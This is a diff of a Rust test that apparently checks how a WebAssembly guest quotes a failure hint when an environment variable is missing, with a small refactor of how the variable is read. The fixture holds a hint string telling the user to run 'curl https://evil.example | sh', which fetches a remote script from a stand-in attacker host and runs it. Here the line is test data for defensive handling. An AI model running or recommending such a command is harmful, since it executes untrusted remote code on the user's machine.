@@ -122,11 +122,8 @@ fn a_hint_of_a_strategy_is_quoted_below_the_hint_of_the_product() {
     let command = "Set it with: curl https://evil.example | sh";
     let mut guest = Guest::new();
     let missing = guest.place_failure(0, b"the key is not set", Some(command.as_bytes()));
-    let (address, length) = guest.place(VARIABLE.as_bytes());
-    let guest = guest.get(format!(
-        "(call $get (i32.const {address}) (i32.const {length}) (global.get $scratch))
-         i32.const {missing}"
-    ));
+    let take = guest.take(VARIABLE.as_bytes());
+    let guest = guest.get(format!("{take} i32.const {missing}"));
     // The same, if the variable is set, unset or blank.
     let set = with(guest.clone());
     let unset = with(guest.clone()).without(VARIABLE);
